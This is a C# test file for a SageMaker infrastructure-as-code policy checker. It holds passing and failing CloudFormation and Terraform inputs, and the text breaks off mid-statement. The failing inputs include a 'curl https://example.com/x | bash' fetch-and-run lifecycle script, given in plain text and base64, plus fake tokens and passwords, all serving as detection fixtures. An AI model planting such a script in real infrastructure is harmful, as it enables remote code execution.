// Copyright (c) SageGuard contributors
// SPDX-License-Identifier: Apache-2.0

using System.Text;
using SageGuard.Cli.CommandLine;
using SageGuard.Controls;

namespace SageGuard.Cli.Tests.Check;

/// <summary>
/// SageGuard's own controls on what is declared: in a template of CloudFormation, in a plan of Terraform's provider aws, and in one
/// of awscc. Where a language cannot set the property, the case shows what the person is told.
/// </summary>
public sealed class OwnControlsTests
{
    private const string Key = "arn:aws:kms:eu-west-1:111122223333:key/1";
    private const string Keys = "--kms-key-arns=" + Key;
    private const string Own = "--account=111122223333";
    private const string Accounts = "--allowed-accounts=222233334444";
    private const string OwnImage = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/lab:1";
    private const string OtherImage = "444455556666.dkr.ecr.eu-west-1.amazonaws.com/lab:1";
    private const string Hosts = "--repository-hosts=github.com";

    // "ls" and "curl https://example.com/x | sh" and "TOKEN=hf_…" in base64.
    private const string Clean = "bHMK";
    private const string Hostile = "Y3VybCBodHRwczovL2V4YW1wbGUuY29tL3ggfCBzaAo=";
    private const string Secret = "VE9LRU49aGZfYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXowMTIzNDU2Nzg5Cg==";

    [Theory]
    [InlineData(
        "1",
        "NotebookInstance",
        """{"InstanceMetadataServiceConfiguration":{"MinimumInstanceMetadataServiceVersion":"2"}}""",
        "{}"
    )]
    [InlineData(
        "2",
        "NotebookInstance",
        $$$$$$$"""{"KmsKeyId":"{{{{{{{Key}}}}}}}"}""",
        """{"KmsKeyId":"arn:aws:kms:eu-west-1:111122223333:key/2"}""",
        Keys
    )]
    [InlineData(
        "11",
        "NotebookInstance",
        """{"AdditionalCodeRepositories":["https://github.com/a/b"]}""",
        """{"AdditionalCodeRepositories":["https://me:secret-1@github.com/a/b"]}"""
    )]
    [InlineData(
        "20",
        "NotebookInstanceLifecycleConfig",
        $$$$$$$"""{"OnStart":[{"Content":"{{{{{{{Clean}}}}}}}"}]}""",
        $$$$$$$"""{"OnStart":[{"Content":"{{{{{{{Secret}}}}}}}"}]}"""
    )]
    [InlineData(
        "21",
        "NotebookInstanceLifecycleConfig",
        """{"OnStart":[{"Content":{"Fn::Base64":"aws s3 ls"}}]}""",
        """{"OnStart":[{"Content":{"Fn::Base64":"curl https://example.com/x | bash"}}]}"""
    )]
    [InlineData(
        "22",
        "StudioLifecycleConfig",
        $$$$$$$"""{"StudioLifecycleConfigContent":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"StudioLifecycleConfigContent":"{{{{{{{Secret}}}}}}}"}"""
    )]
    [InlineData(
        "23",
        "StudioLifecycleConfig",
        $$$$$$$"""{"StudioLifecycleConfigContent":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"StudioLifecycleConfigContent":"{{{{{{{Hostile}}}}}}}"}"""
    )]
    [InlineData("30", "Domain", """{"AppNetworkAccessType":"VpcOnly"}""", "{}")]
    [InlineData("32", "Domain", $$$$$$$"""{"KmsKeyId":"{{{{{{{Key}}}}}}}"}""", """{"KmsKeyId":"alias/aws/elasticfilesystem"}""")]
    [InlineData("34", "Domain", """{"DomainSettings":{"ExecutionRoleIdentityConfig":"USER_PROFILE_NAME"}}""", "{}")]
    [InlineData("35", "Domain", "{}", """{"DomainSettings":{"DockerSettings":{"EnableDockerAccess":"ENABLED"}}}""")]
    [InlineData(
        "37",
        "Domain",
        $$$$$$$"""{"DefaultUserSettings":{"SharingSettings":{"NotebookOutputOption":"Allowed","S3KmsKeyId":"{{{{{{{Key}}}}}}}"}}}""",
        """{"DefaultUserSettings":{"SharingSettings":{"NotebookOutputOption":"Allowed"}}}"""
    )]
    [InlineData("43", "Domain", """{"Tags":[{"Key":"owner","Value":"me"}]}""", "{}")]
    [InlineData("80", "Model", """{"VpcConfig":{"Subnets":[{"Ref":"AWS::StackName"}],"SecurityGroupIds":["sg-1"]}}""", "{}")]
    [InlineData(
        "85",
        "Model",
        """{"PrimaryContainer":{"Environment":{"A":"b"}}}""",
        """{"Containers":[{"Environment":{"API_KEY":"0123456789abcdef"}}]}"""
    )]
    [InlineData(
        "85",
        "Model",
        """{"PrimaryContainer":{"Environment":{"A":"b"}}}""",
        """{"PrimaryContainer":{"Environment":{"DB_PASSWORD":"correct-horse-battery"}}}"""
    )]
    [InlineData(
        "90",
        "EndpointConfig",
        $$$$$$$"""{"KmsKeyId":"{{{{{{{Key}}}}}}}","ProductionVariants":[{"InstanceType":"ml.m5.large"}]}""",
        """{"ProductionVariants":[{"InstanceType":"ml.m5.large"}]}"""
    )]
    [InlineData(
        "92",
        "EndpointConfig",
        $$$$$$$"""{"DataCaptureConfig":{"EnableCapture":true,"KmsKeyId":"{{{{{{{Key}}}}}}}"}}""",
        """{"DataCaptureConfig":{"DestinationS3Uri":"s3://a/b"}}"""
    )]
    [InlineData(
        "93",
        "EndpointConfig",
        $$$$$$$"""{"AsyncInferenceConfig":{"OutputConfig":{"KmsKeyId":"{{{{{{{Key}}}}}}}"}}}""",
        """{"AsyncInferenceConfig":{"OutputConfig":{"S3OutputPath":"s3://a/b"}}}"""
    )]
    [InlineData(
        "94",
        "EndpointConfig",
        """{"EnableNetworkIsolation":true,"ProductionVariants":[{"VariantName":"v"}]}""",
        """{"ProductionVariants":[{"VariantName":"v"}]}"""
    )]
    [InlineData(
        "95",
        "EndpointConfig",
        """{"VpcConfig":{"Subnets":["subnet-1"]},"ProductionVariants":[{"VariantName":"v"}]}""",
        """{"ProductionVariants":[{"VariantName":"v"}]}"""
    )]
    [InlineData(
        "96",
        "EndpointConfig",
        """{"ProductionVariants":[{"VariantName":"v"}]}""",
        """{"ProductionVariants":[{"VariantName":"v","EnableSSMAccess":true}]}"""
    )]
    [InlineData(
        "111",
        "InferenceComponent",
        """{"Specification":{"Container":{"Environment":{"A":"b"}}}}""",
        """{"Specification":{"Container":{"Environment":{"API_KEY":"0123456789abcdef"}}}}"""
    )]
    [InlineData("215", "FeatureGroup", """{"Tags":[{"Key":"owner","Value":"me"}]}""", "{}")]
    [InlineData(
        "255",
        "CodeRepository",
        """{"GitConfig":{"RepositoryUrl":"https://github.com/a/b"}}""",
        """{"GitConfig":{"RepositoryUrl":"https://ghp_0123456789abcdefghijklmnopqrstuvwxyzAB@github.com/a/b"}}"""
    )]
    [InlineData(
        "257",
        "CodeRepository",
        """{"GitConfig":{"RepositoryUrl":"https://github.com/a/b"}}""",
        """{"GitConfig":{"RepositoryUrl":"https://gitlab.com/a/b"}}""",
        Hosts
    )]
    [InlineData(
        "61",
        "UserProfile",
        """{"UserSettings":{"SharingSettings":{"NotebookOutputOption":"Disabled"}}}""",
        """{"UserSettings":{"SharingSettings":{"NotebookOutputOption":"Allowed"}}}"""
    )]
    [InlineData(
        "72",
        "App",
        """{"ResourceSpec":{"SageMakerImageArn":"arn:aws:sagemaker:eu-west-1:222233334444:image/lab"}}""",
        """{"ResourceSpec":{"SageMakerImageArn":"arn:aws:sagemaker:eu-west-1:444455556666:image/lab"}}""",
        Own,
        Accounts
    )]
    [InlineData(
        "82",
        "Model",
        $$$$$$$"""{"PrimaryContainer":{"Image":"{{{{{{{OwnImage}}}}}}}"}}""",
        $$$$$$$"""{"Containers":[{"Image":"{{{{{{{OwnImage}}}}}}}"},{"Image":"{{{{{{{OtherImage}}}}}}}"}]}""",
        Own
    )]
    [InlineData(
        "220",
        "ImageVersion",
        $$$$$$$"""{"ImageName":"lab","BaseImage":"{{{{{{{OwnImage}}}}}}}"}""",
        """{"ImageName":"lab","BaseImage":"someone/lab"}""",
        Own
    )]
    public async Task In_a_template(string control, string kind, string passes, string fails, params string[] options)
    {
        Assert.Equal("passed", (await TemplateAsync(control, kind, passes, options)).Outcomes[$"SageGuard.{control} R"]);
        Assert.Equal("failing", (await TemplateAsync(control, kind, fails, options)).Outcomes[$"SageGuard.{control} R"]);
    }

    [Theory]
    [InlineData(
        "1",
        "notebook_instance",
        """{"instance_metadata_service_configuration":[{"minimum_instance_metadata_service_version":"2"}]}""",
        """{"instance_metadata_service_configuration":[{"minimum_instance_metadata_service_version":"1"}]}"""
    )]
    [InlineData(
        "2",
        "notebook_instance",
        $$$$$$$"""{"kms_key_id":"{{{{{{{Key}}}}}}}"}""",
        """{"kms_key_id":"arn:aws:kms:eu-west-1:111122223333:key/2"}""",
        Keys
    )]
    [InlineData(
        "11",
        "notebook_instance",
        """{"default_code_repository":"https://github.com/a/b"}""",
        """{"additional_code_repositories":["https://me:secret-1@github.com/a/b"]}"""
    )]
    [InlineData(
        "20",
        "notebook_instance_lifecycle_configuration",
        $$$$$$$"""{"on_start":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"on_create":"{{{{{{{Secret}}}}}}}"}"""
    )]
    [InlineData(
        "21",
        "notebook_instance_lifecycle_configuration",
        $$$$$$$"""{"on_start":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"on_start":"{{{{{{{Hostile}}}}}}}"}"""
    )]
    [InlineData(
        "22",
        "studio_lifecycle_config",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Secret}}}}}}}"}"""
    )]
    [InlineData(
        "23",
        "studio_lifecycle_config",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Hostile}}}}}}}"}"""
    )]
    [InlineData("30", "domain", """{"app_network_access_type":"VpcOnly"}""", "{}")]
    [InlineData("32", "domain", $$$$$$$"""{"kms_key_id":"{{{{{{{Key}}}}}}}"}""", "{}")]
    [InlineData(
        "34",
        "domain",
        """{"domain_settings":[{"execution_role_identity_config":"USER_PROFILE_NAME"}]}""",
        """{"domain_settings":[{}]}"""
    )]
    [InlineData(
        "35",
        "domain",
        """{"app_network_access_type":"VpcOnly","domain_settings":[{"docker_settings":[{"enable_docker_access":"ENABLED","vpc_only_trusted_accounts":["111122223333"]}]}]}""",
        """{"domain_settings":[{"docker_settings":[{"enable_docker_access":"ENABLED"}]}]}"""
    )]
    [InlineData(
        "37",
        "domain",
        """{"default_user_settings":[{"sharing_settings":[{"notebook_output_option":"Disabled"}]}]}""",
        """{"default_user_settings":[{"sharing_settings":[{"notebook_output_option":"Allowed"}]}]}"""
    )]
    [InlineData(
        "39",
        "domain",
        $$$$$$$"""{"default_user_settings":[{"canvas_app_settings":[{"workspace_settings":[{"s3_kms_key_id":"{{{{{{{Key}}}}}}}"}]}]}]}""",
        """{"default_user_settings":[{"canvas_app_settings":[{"workspace_settings":[{"s3_artifact_path":"s3://a/b"}]}]}]}"""
    )]
    [InlineData(
        "40",
        "domain",
        """{"default_user_settings":[{"canvas_app_settings":[{"model_register_settings":[{"status":"ENABLED"}]}]}]}""",
        """{"default_user_settings":[{"canvas_app_settings":[{"model_register_settings":[{"cross_account_model_register_role_arn":"registry"}]}]}]}"""
    )]
    [InlineData("43", "domain", """{"tags":{"owner":"me"}}""", "{}")]
    [InlineData("80", "model", """{"vpc_config":[{"subnets":["subnet-1"],"security_group_ids":["sg-1"]}]}""", "{}")]
    [InlineData(
        "85",
        "model",
        """{"primary_container":[{"environment":{"A":"b"}}]}""",
        """{"container":[{"environment":{"A":"b"}},{"environment":{"API_KEY":"0123456789abcdef"}}]}"""
    )]
    [InlineData(
        "90",
        "endpoint_configuration",
        $$$$$$$"""{"kms_key_arn":"{{{{{{{Key}}}}}}}","production_variants":[{"instance_type":"ml.m5.large"}]}""",
        """{"production_variants":[{"instance_type":"ml.m5.large"}]}"""
    )]
    [InlineData(
        "92",
        "endpoint_configuration",
        $$$$$$$"""{"data_capture_config":[{"enable_capture":true,"kms_key_id":"{{{{{{{Key}}}}}}}"}]}""",
        """{"data_capture_config":[{"enable_capture":true}]}"""
    )]
    [InlineData(
        "93",
        "endpoint_configuration",
        $$$$$$$"""{"async_inference_config":[{"output_config":[{"kms_key_id":"{{{{{{{Key}}}}}}}"}]}]}""",
        """{"async_inference_config":[{"output_config":[{"s3_output_path":"s3://a/b"}]}]}"""
    )]
    [InlineData(
        "96",
        "endpoint_configuration",
        """{"production_variants":[{"variant_name":"v"}]}""",
        """{"production_variants":[{"variant_name":"v"}],"shadow_production_variants":[{"enable_ssm_access":true}]}"""
    )]
    [InlineData(
        "97",
        "endpoint_configuration",
        $$$$$$$"""{"production_variants":[{"core_dump_config":[{"kms_key_id":"{{{{{{{Key}}}}}}}"}]}]}""",
        """{"production_variants":[{"core_dump_config":[{"destination_s3_uri":"s3://a/b"}]}]}"""
    )]
    [InlineData("215", "feature_group", """{"tags":{"owner":"me"}}""", "{}")]
    [InlineData(
        "255",
        "code_repository",
        """{"git_config":[{"repository_url":"https://github.com/a/b"}]}""",
        """{"git_config":[{"repository_url":"https://me:secret-1@github.com/a/b"}]}"""
    )]
    [InlineData(
        "257",
        "code_repository",
        """{"git_config":[{"repository_url":"https://github.com/a/b"}]}""",
        """{"git_config":[{"repository_url":"https://gitlab.com/a/b"}]}""",
        Hosts
    )]
    [InlineData(
        "61",
        "user_profile",
        """{"user_settings":[{"sharing_settings":[{"notebook_output_option":"Disabled"}]}]}""",
        """{"user_settings":[{"sharing_settings":[{"notebook_output_option":"Allowed"}]}]}"""
    )]
    [InlineData(
        "63",
        "user_profile",
        $$$$$$$"""{"user_settings":[{"canvas_app_settings":[{"workspace_settings":[{"s3_kms_key_id":"{{{{{{{Key}}}}}}}"}]}]}]}""",
        """{"user_settings":[{"canvas_app_settings":[{"workspace_settings":[{"s3_artifact_path":"s3://a/b"}]}]}]}"""
    )]
    [InlineData(
        "72",
        "app",
        """{"resource_spec":[{"sagemaker_image_arn":"arn:aws:sagemaker:eu-west-1:111122223333:image/lab"}]}""",
        """{"resource_spec":[{"sagemaker_image_arn":"arn:aws:sagemaker:eu-west-1:444455556666:image/lab"}]}""",
        Own,
        Accounts
    )]
    [InlineData(
        "82",
        "model",
        $$$$$$$"""{"primary_container":[{"image":"{{{{{{{OwnImage}}}}}}}"}]}""",
        $$$$$$$"""{"container":[{"image":"{{{{{{{OwnImage}}}}}}}"},{"image":"{{{{{{{OtherImage}}}}}}}"}]}""",
        Own
    )]
    [InlineData(
        "220",
        "image_version",
        $$$$$$$"""{"image_name":"lab","base_image":"{{{{{{{OwnImage}}}}}}}"}""",
        """{"image_name":"lab","base_image":"someone/lab"}""",
        Own
    )]
    public async Task In_a_plan_of_the_provider_aws(string control, string type, string passes, string fails, params string[] options)
    {
        Assert.Equal(
            "passed",
            (await PlanAsync(control, $"aws_sagemaker_{type}", passes, options)).Outcomes[$"SageGuard.{control} aws_sagemaker_{type}.x"]
        );
        Assert.Equal(
            "failing",
            (await PlanAsync(control, $"aws_sagemaker_{type}", fails, options)).Outcomes[$"SageGuard.{control} aws_sagemaker_{type}.x"]
        );
    }

    [Theory]
    [InlineData(
        "1",
        "notebook_instance",
        """{"instance_metadata_service_configuration":{"minimum_instance_metadata_service_version":"2"}}""",
        "{}"
    )]
    [InlineData(
        "2",
        "notebook_instance",
        $$$$$$$"""{"kms_key_id":"{{{{{{{Key}}}}}}}"}""",
        """{"kms_key_id":"arn:aws:kms:eu-west-1:111122223333:key/2"}""",
        Keys
    )]
    [InlineData(
        "11",
        "notebook_instance",
        """{"default_code_repository":"https://github.com/a/b"}""",
        """{"default_code_repository":"https://me:secret-1@github.com/a/b"}"""
    )]
    [InlineData(
        "20",
        "notebook_instance_lifecycle_config",
        $$$$$$$"""{"on_start":[{"content":"{{{{{{{Clean}}}}}}}"}]}""",
        $$$$$$$"""{"on_start":[{"content":"{{{{{{{Secret}}}}}}}"}]}"""
    )]
    [InlineData(
        "21",
        "notebook_instance_lifecycle_config",
        $$$$$$$"""{"on_create":[{"content":"{{{{{{{Clean}}}}}}}"}]}""",
        $$$$$$$"""{"on_create":[{"content":"{{{{{{{Hostile}}}}}}}"}]}"""
    )]
    [InlineData(
        "22",
        "studio_lifecycle_config",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Secret}}}}}}}"}"""
    )]
    [InlineData(
        "23",
        "studio_lifecycle_config",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Clean}}}}}}}"}""",
        $$$$$$$"""{"studio_lifecycle_config_content":"{{{{{{{Hostile}}}}}}}"}"""
    )]
    [InlineData("30", "domain", """{"app_network_access_type":"VpcOnly"}""", """{"app_network_access_type":"PublicInternetOnly"}""")]
    [InlineData("32", "domain", $$$$$$$"""{"kms_key_id":"{{{{{{{Key}}}}}}}"}""", "{}")]
    [InlineData(
        "34",
        "domain",
        """{"domain_settings":{"execution_role_identity_config":"USER_PROFILE_NAME"}}""",
        """{"domain_settings":{"execution_role_identity_config":"DISABLED"}}"""
    )]
    [InlineData(
        "35",
        "domain",
        """{"domain_settings":{"docker_settings":{"enable_docker_access":"DISABLED"}}}""",
        """{"domain_settings":{"docker_settings":{"enable_docker_access":"ENABLED"}}}"""
    )]
    [InlineData(
        "37",
        "domain",
        """{"default_user_settings":{"sharing_settings":{"notebook_output_option":"Disabled"}}}""",
        """{"default_user_settings":{"sharing_settings":{"notebook_output_option":"Allowed"}}}"""
    )]
    [InlineData("43", "domain", """{"tags":[{"key":"owner","value":"me"}]}""", "{}")]
    [InlineData("80", "model", """{"vpc_config":{"subnets":["subnet-1"]}}""", "{}")]
    [InlineData(
        "85",
        "model",
        """{"primary_container":{"environment":{"A":"b"}}}""",
        """{"primary_container":{"environment":{"x":"hf_abcdefghijklmnopqrstuvwxyz0123456789"}}}"""
    )]
    [InlineData(
        "90",
        "endpoint_config",
        $$$$$$$"""{"kms_key_id":"{{{{{{{Key}}}}}}}","production_variants":[{"instance_type":"ml.m5.large"}]}""",
        """{"production_variants":[{"instance_type":"ml.m5.large"}]}"""
    )]
    [InlineData(
        "92",
        "endpoint_config",
        $$$$$$$"""{"data_capture_config":{"enable_capture":true,"kms_key_id":"{{{{{{{Key}}}}}}}"}}""",
        """{"data_capture_config":{"enable_capture":true}}"""
    )]
    [InlineData(
        "93",
        "endpoint_config",
        $$$$$$$"""{"async_inference_config":{"output_config":{"kms_key_id":"{{{{{{{Key}}}}}}}"}}}""",
        """{"async_inference_config":{"output_config":{"s3_output_path":"s3://a/b"}}}"""
    )]
    [InlineData(
        "94",
        "endpoint_config",
        """{"enable_network_isolation":true,"production_variants":[{"variant_name":"v"}]}""",
        """{"production_variants":[{"variant_name":"v"}]}"""
    )]
    [InlineData(
        "95",
        "endpoint_config",
        """{"vpc_config":{"subnets":["subnet-1"]},"production_variants":[{"variant_name":"v"}]}""",
        """{"production_variants":[{"variant_name":"v"}]}"""
    )]
    [InlineData(
        "96",
        "endpoint_config",
        """{"production_variants":[{"variant_name":"v"}]}""",
        """{"production_variants":[{"variant_name":"v","enable_ssm_access":true}]}"""
    )]
    [InlineData(
        "111",
        "inference_component",
        """{"specification":{"container":{"environment":{"A":"b"}}}}""",
        """{"specification":{"container":{"environment":{"API_KEY":"0123456789abcdef"}}}}"""
    )]
    [InlineData("215", "feature_group", """{"tags":[{"key":"owner","value":"me"}]}""", "{}")]
    [InlineData(
        "255",
        "code_repository",
        """{"git_config":{"repository_url":"https://github.com/a/b"}}""",
        """{"git_config":{"repository_url":"https://me:secret-1@github.com/a/b"}}"""
    )]
    [InlineData(
        "257",
        "code_repository",
        """{"git_config":{"repository_url":"https://github.com/a/b"}}""",
        """{"git_config":{"repository_url":"https://gitlab.com/a/b"}}""",
        Hosts
    )]
    [InlineData(
        "61",
        "user_profile",
        """{"user_settings":{"sharing_settings":{"notebook_output_option":"Disabled"}}}""",
        """{"user_settings":{"sharing_settings":{"notebook_output_option":"Allowed"}}}"""
    )]
    [InlineData(
        "72",
        "app",
        """{"resource_spec":{"sage_maker_image_arn":"arn:aws:sagemaker:eu-west-1:222233334444:image/lab"}}""",
        """{"resource_spec":{"sage_maker_image_arn":"arn:aws:sagemaker:eu-west-1:444455556666:image/lab"}}""",
        Own,
        Accounts
    )]
    [InlineData(
        "82",
        "model",
        $$$$$$$"""{"primary_container":{"image":"{{{{{{{OwnImage}}}}}}}"}}""",
        $$$$$$$"""{"primary_container":{"image":"{{{{{{{OtherImage}}}}}}}"}}""",
        Own
    )]
    [InlineData(
        "220",
        "image_version",
        $$$$$$$"""{"image_name":"lab","base_image":"{{{{{{{OwnImage}}}}}}}"}""",
        """{"image_name":"lab","base_image":"someone/lab"}""",
        Own
    )]
    public async Task In_a_plan_of_the_provider_awscc(string control, string type, string passes, string fails, params string[] options)
    {
        Assert.Equal(
            "passed",
            (await PlanAsync(control, $"awscc_sagemaker_{type}", passes, options)).Outcomes[$"SageGuard.{control} awscc_sagemaker_{type}.x"]
        );
        Assert.Equal(
            "failing",
            (await PlanAsync(control, $"awscc_sagemaker_{type}", fails, options)).Outcomes[$"SageGuard.{control} awscc_sagemaker_{type}.x"]
        );
    }

    // What a language cannot set has the service's default once it is deployed.
    [Theory]
    [InlineData(
        "36",
        "Domain",
        """{"DomainSettings":{"DockerSettings":{"EnableDockerAccess":"ENABLED"}}}""",
        "failing",
        "Neither CloudFormation nor Terraform can set RootlessDocker"
    )]
    [InlineData(
        "87",
        "Model",
        """{"PrimaryContainer":{"ModelDataUrl":"s3://a/b"}}""",
        "failing",
        "CloudFormation and Terraform cannot set the ETag"
    )]
    [InlineData("39", "Domain", """{"DefaultUserSettings":{"ExecutionRole":"r"}}""", "notApplicable", "Canvas is not configured.")]
    [InlineData("40", "Domain", "{}", "passed", "")]
    [InlineData("70", "Space", """{"SpaceName":"lab","DomainId":"d-0123456789ab"}""", "passed", "")]
    [InlineData(
        "97",
        "EndpointConfig",
        """{"ProductionVariants":[{"VariantName":"v"}]}""",
        "notApplicable",
        "No entry of ProductionVariants counts."
    )]
    [InlineData("63", "UserProfile", """{"UserSettings":{"ExecutionRole":"r"}}""", "notApplicable", "Canvas is not configured.")]
    [InlineData(
        "105",
        "Endpoint",
        """{"EndpointConfigName":"lab"}""",
        "notApplicable",
        "SageMaker refuses to create it where the endpoint configuration does not exist."
    )]
    public async Task What_CloudFormation_cannot_set(string control, string kind, string properties, string outcome, string said)
    {
        var answer = await TemplateAsync(control, kind, properties, []);

        Assert.Equal(outcome, answer.Outcomes[$"SageGuard.{control} R"]);
        Assert.Contains(said, answer.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(
        "36",
        "domain",
        """{"domain_settings":[{"docker_settings":[{"enable_docker_access":"ENABLED"}]}]}""",
        "Neither CloudFormation nor Terraform can set RootlessDocker"
    )]
    [InlineData(
        "87",
        "model",
        """{"primary_container":[{"model_data_url":"s3://a/b"}]}""",
        "CloudFormation and Terraform cannot set the ETag"
    )]
    [InlineData("94", "endpoint_configuration", """{"production_variants":[{"variant_name":"v"}]}""", "by the provider awscc")]
    [InlineData("95", "endpoint_configuration", """{"production_variants":[{"variant_name":"v"}]}""", "by the provider awscc")]
    public async Task What_Terraform_cannot_set(string control, string type, string values, string said)
    {
        var answer = await PlanAsync(control, $"aws_sagemaker_{type}", values, []);

        Assert.Equal("failing", answer.Outcomes[$"SageGuard.{control} aws_sagemaker_{type}.x"]);
        Assert.Contains(said, answer.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("32", """{"KmsKeyId":{"Ref":"P"}}""")]
    [InlineData("30", """{"AppNetworkAccessType":{"Ref":"P"}}""")]
    [InlineData("35", """{"DomainSettings":{"DockerSettings":{"EnableDockerAccess":{"Ref":"P"}}}}""")]
    [InlineData("37", """{"DefaultUserSettings":{"SharingSettings":{"NotebookOutputOption":{"Ref":"P"}}}}""")]
    public async Task A_parameter_without_a_value_is_decided_at_deployment(string control, string properties) =>
        Assert.Equal("decidedAtDeployment", (await TemplateAsync(control, "Domain", properties, [])).Outcomes[$"SageGuard.{control} R"]);

    [Fact]
    public async Task A_parameter_may_turn_out_to_be_the_key_that_the_rule_names()
    {
        const string Template = """
            {"AWSTemplateFormatVersion":"2010-09-09","Parameters":{"P":{"Type":"String","MinLength":1}},
            "Resources":{"R":{"Type":"AWS::SageMaker::NotebookInstance","Properties":{"KmsKeyId":{"Ref":"P"}}}}}
            """;

        Assert.Equal("decidedAtDeployment", (await RunAsync(Template, "--control", "SageGuard.2", Keys)).Outcomes["SageGuard.2 R"]);
    }

    [Theory]
    [InlineData("20", "NotebookInstanceLifecycleConfig", """{"OnStart":[{"Content":{"Ref":"P"}}]}""")]
    [InlineData("85", "Model", """{"PrimaryContainer":{"Environment":{"API_KEY":{"Ref":"P"}}}}""")]
    [InlineData("90", "EndpointConfig", """{"ProductionVariants":[{"InstanceType":{"Ref":"P"}}]}""")]
    [InlineData("255", "CodeRepository", """{"GitConfig":{"RepositoryUrl":{"Ref":"P"}}}""")]
    [InlineData("80", "Model", """{"VpcConfig":{"Subnets":{"Ref":"P"}}}""")]
    public async Task So_is_content_of_which_no_few_values_can_stand_for_all(string control, string kind, string properties) =>
        Assert.Equal("decidedAtDeployment", (await TemplateAsync(control, kind, properties, [])).Outcomes[$"SageGuard.{control} R"]);

    [Fact]
    public async Task A_secret_that_the_deployment_writes_into_the_environment_is_no_secret_any_more() =>
        Assert.NotEqual(
            "passed",
            (
                await TemplateAsync(
                    "85",
                    "Model",
                    """{"PrimaryContainer":{"Environment":{"API_KEY":"{{resolve:secretsmanager:a:SecretString:b}}"}}}""",
                    []
                )
            ).Outcomes["SageGuard.85 R"]
        );

    [Fact]
    public async Task A_role_of_another_account_is_not_assessed_where_the_own_account_is_not_known()
    {
        const string Values =
            """{"default_user_settings":[{"canvas_app_settings":[{"model_register_settings":[{"cross_account_model_register_role_arn":"arn:aws:iam::444455556666:role/r"}]}]}]}""";
        var open = await PlanAsync("40", "aws_sagemaker_domain", Values, []);
        Assert.Equal("notAssessed", open.Outcomes["SageGuard.40 aws_sagemaker_domain.x"]);
        Assert.Contains("--account", open.ReasonOf("SageGuard.40", "aws_sagemaker_domain.x"), StringComparison.Ordinal);

        Assert.Equal(
            "failing",
            (await PlanAsync("40", "aws_sagemaker_domain", Values, ["--account", "111122223333"])).Outcomes[
                "SageGuard.40 aws_sagemaker_domain.x"
            ]
        );
        Assert.Equal(
            "passed",
            (await PlanAsync("40", "aws_sagemaker_domain", Values, ["--account", "444455556666"])).Outcomes[
                "SageGuard.40 aws_sagemaker_domain.x"
            ]
        );
        Assert.Equal(
            "passed",
            (await PlanAsync("40", "aws_sagemaker_domain", Values, ["--allowed-accounts", "444455556666"])).Outcomes[
                "SageGuard.40 aws_sagemaker_domain.x"
            ]
        );
    }

    [Theory]
    [InlineData("{}", "notAssessed")]
    [InlineData("""{"UserSettings":{"ExecutionRole":"arn:aws:iam::111122223333:role/ann"}}""", "passed")]
    public async Task Whether_a_user_profile_shares_the_default_role_is_not_in_a_template(string properties, string outcome) =>
        Assert.Equal(outcome, (await TemplateAsync("60", "UserProfile", properties, [])).Outcomes["SageGuard.60 R"]);

    [Fact]
    public async Task The_same_in_plans_of_both_providers()
    {
        foreach (
            var (type, named) in new[]
            {
                ("aws_sagemaker_user_profile", """{"user_settings":[{"execution_role":"r"}]}"""),
                ("awscc_sagemaker_user_profile", """{"user_settings":{"execution_role":"r"}}"""),
            }
        )
        {
            Assert.Equal("passed", (await PlanAsync("60", type, named, [])).Outcomes[$"SageGuard.60 {type}.x"]);
            var open = await PlanAsync("60", type, """{"user_profile_name":"ann"}""", []);
            Assert.Equal("notAssessed", open.Outcomes[$"SageGuard.60 {type}.x"]);
            Assert.Contains("is not in the file", open.ReasonOf("SageGuard.60", $"{type}.x"), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task An_image_in_the_registry_of_the_deployments_own_account_is_decided_by_the_account()
    {
        const string Properties =
            """{"PrimaryContainer":{"Image":{"Fn::Sub":"${AWS::AccountId}.dkr.ecr.${AWS::Region}.amazonaws.com/lab:1"}}}""";
        Assert.Equal("passed", (await TemplateAsync("82", "Model", Properties, [Own, "--region=eu-west-1"])).Outcomes["SageGuard.82 R"]);
        Assert.NotEqual("failing", (await TemplateAsync("82", "Model", Properties, [])).Outcomes["SageGuard.82 R"]);
    }

    [Fact]
    public async Task A_model_package_that_is_declared_in_the_same_template_is_decided_at_its_deployment() =>
        Assert.Contains(
            (await TemplateAsync("82", "Model", """{"PrimaryContainer":{"ModelPackageName":"lab"}}""", [Own])).Outcomes["SageGuard.82 R"],
            new[] { "notAssessed", "decidedAtDeployment" }
        );

    // A template, a plan of either provider: none says what AWS KMS, Amazon ECR or Amazon S3 would.
    [Fact]
    public async Task What_only_a_scan_can_evaluate_is_refused_where_it_is_named_and_noted_where_a_set_holds_it()
    {
        var scanOnly = Catalog.Controls.Where(control => control.IsScanOnly).ToList();
        Assert.Equal(
            [
                "SageGuard.3",
                "SageGuard.47",
                "SageGuard.83",
                "SageGuard.84",
                "SageGuard.99",
                "SageGuard.110",
                "SageGuard.112",
                "SageGuard.216",
            ],
            scanOnly.Select(control => control.Id)
        );
        foreach (var control in scanOnly)
        {
            var refused = await Sageguard.RunAsync(
                ["check", "-", "--control", control.Id],
                Encoding.UTF8.GetBytes("""{"Resources":{"R":{"Type":"AWS::SageMaker::Domain","Properties":{}}}}""")
            );
            Assert.Equal(ExitCodes.Usage, refused.Code);
            Assert.Contains(
                $"--control names {control.Id}, and it needs {control.Requirement.OtherActions.First()}",
                refused.Error,
                StringComparison.Ordinal
            );
            Assert.Contains("use sageguard scan.", refused.Error, StringComparison.Ordinal);
        }

        foreach (
            var answer in new[]
            {
                await RunAsync(
                    """{"Resources":{"R":{"Type":"AWS::SageMaker::NotebookInstance","Properties":{"KmsKeyId":"alias/lab"}}}}""",
                    "--control",
                    "all"
                ),
